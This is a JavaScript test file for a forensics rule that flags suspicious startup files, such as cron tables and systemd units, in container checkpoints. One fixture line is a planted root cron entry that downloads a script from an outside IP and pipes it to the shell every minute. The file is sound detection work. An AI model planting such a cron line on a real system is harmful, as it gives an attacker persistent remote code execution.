import test from 'ava';
import {startFile} from '../../../source/forensics/findings/rules/start-file.js';
import {ChangedCheckpoint} from '../../support/changed-checkpoint.js';
import {foundBy} from '../../support/findings.js';

test('a cron table with what it runs; the folders around it are nothing', async t => {
	t.deepEqual(await foundBy(startFile, 'fx-rootkit'), ['danger /etc/cron.d/.placeholder: * * * * * root curl -s http://198.51.100.23/x.sh | sh # PLANT-CRON']);
});

test('units of systemd and start scripts are worth a notice', async t => {
	const changed = new ChangedCheckpoint('podman-small');
	for (const name of ['etc/systemd/system/update.service', 'etc/init.d/update', 'srv/update.service']) {
		changed.addToTar('rootfs-diff.tar', name, '[Service]\nExecStart=/opt/x\n');
	}

	t.deepEqual(await foundBy(startFile, changed.folder), ['notice /etc/systemd/system/update.service', 'notice /etc/init.d/update']);
});
